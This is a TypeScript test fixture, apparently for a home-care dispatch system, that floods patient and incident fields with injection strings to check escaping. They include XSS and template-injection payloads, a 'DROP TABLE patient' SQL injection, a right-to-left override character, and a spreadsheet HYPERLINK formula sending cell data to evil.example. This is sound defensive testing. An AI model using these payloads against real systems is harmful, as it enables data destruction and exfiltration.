// Words that would run, break out or mislead wherever a page, a query, a template or a spreadsheet takes text for more than
// text; and a small centre in which every field that is shown anywhere holds them.
import { GatewayLine } from './gateway-line.js';
import { ok, Seat, type Schemas } from './seat.js';
import type { Home, SmallCentre } from './small-centre.js';

/** Longest first: a field takes the first that it has room for. The mark lets a test find it on a screen. */
export const MARK = '撃';
const WORDS = [
  `${MARK}<img src=x onerror="window.ran=1"><script>window.ran=1</script>\${window.ran=1}{{constructor.constructor('window.ran=1')()}}'; DROP TABLE patient; --\u202e逆`,
  `${MARK}"><svg onload=window.ran=1>'; DROP TABLE patient;--`,
  `${MARK}<svg onload=ran=1>`,
  `${MARK}<b>`,
];
/** As cells of a spreadsheet that would be worked out. */
export const FORMULA = `=HYPERLINK("https://evil.example/?x="&A1,"${MARK}")`;

export function hostile(room: number): string {
  return WORDS.find((word) => word.length <= room) ?? MARK;
}

export const hostileCard: Schemas['NewPatient'] = {
  displayName: hostile(60),
  kana: hostile(60),
  birthDate: '1941-03-08',
  sex: 'female',
  area: '板橋',
  timeZone: 'Asia/Tokyo',
  livingAlone: true,
  conditions: [hostile(60)],
  address: hostile(200),
  lat: 35.7525,
  lon: 139.7101,
  keyNote: hostile(200),
  phone: '03-0000-0002',
  family: [{ name: hostile(60), relation: hostile(20), phone: '090-0000-0003', note: hostile(200) }],
  familyDoctor: { name: hostile(60), clinic: hostile(60), phone: '03-0000-0004' },
  wishes: hostile(200),
  medication: [hostile(60)],
  oxygen: false,
  hypercapnic: false,
};

/** An incident in which everybody writes what should not be written. Resolves with its id. */
export async function hostileIncident(
  people: SmallCentre,
  home: Home,
  doctor: Seat,
  line: GatewayLine,
): Promise<string> {
  const { centre, nurse } = people;
  const words = hostile(500);
  const id = home.patient.id;
  const path = { id };
  const { version } = await ok(doctor.api.GET('/api/patients/{id}/standing-instruction', { params: { path } }));
  await ok(
    doctor.api.PUT('/api/patients/{id}/standing-instruction', {
      params: { path },
      body: { text: words, basedOn: version ?? 0 },
    }),
  );
  await line.numeric('oximeter-1', 'spo2', { spo2: [84] }).acknowledged;
  const incident = await openIncidentOf(centre, id);
  const of = { params: { path: { id: incident } } };
  await ok(centre.api.POST('/api/incidents/{id}/acknowledge', { ...of, body: {} }));
  await ok(
    centre.api.POST('/api/incidents/{id}/calls', { ...of, body: { to: hostile(60), outcome: 'reached', note: words } }),
  );
  await ok(centre.api.POST('/api/incidents/{id}/notes', { ...of, body: { text: words } }));
  const first = await ok(centre.api.POST('/api/incidents/{id}/dispatches', { ...of, body: { note: words } }));
  const visit = { params: { path: { id: first.id } } };
  await ok(nurse.api.POST('/api/dispatches/{id}/accept', { ...visit, body: {} }));
  const chain = await ok(nurse.api.POST('/api/dispatches/{id}/doctor-chain', { ...visit, body: { question: words } }));
  await ok(
    nurse.api.POST('/api/dispatches/{id}/orders', {
      ...visit,
      body: { text: words, doctorName: hostile(60), readBack: true },
    }),
  );
  await ok(
    nurse.api.POST('/api/doctor-chains/{id}/end', { params: { path: { id: chain.id } }, body: { reason: words } }),
  );
  const report = { findings: words, vitals: {}, action: words, nextStep: words };
  await ok(nurse.api.POST('/api/dispatches/{id}/report', { ...visit, body: report }));
  await ok(
    centre.api.POST('/api/patients/{id}/pause', { params: { path }, body: { minutes: 5, reason: hostile(200) } }),
  );
  await ok(centre.api.POST('/api/patients/{id}/resume', { params: { path } }));
  await ok(
    centre.api.POST('/api/incidents/{id}/dispatches', { ...of, body: { stationId: people.station.id, note: words } }),
  );
  return incident;
}

async function openIncidentOf(centre: Seat, patientId: string): Promise<string> {
  for (let tries = 0; tries < 60; tries += 1) {
    const open = await ok(centre.api.GET('/api/incidents', { params: { query: { state: 'open' } } }));
    const own = open.find((one) => one.patientId === patientId);
    if (own !== undefined) return own.id;
    await new Promise((resolve) => setTimeout(resolve, 500));
  }
  throw new Error('no incident opened');
}
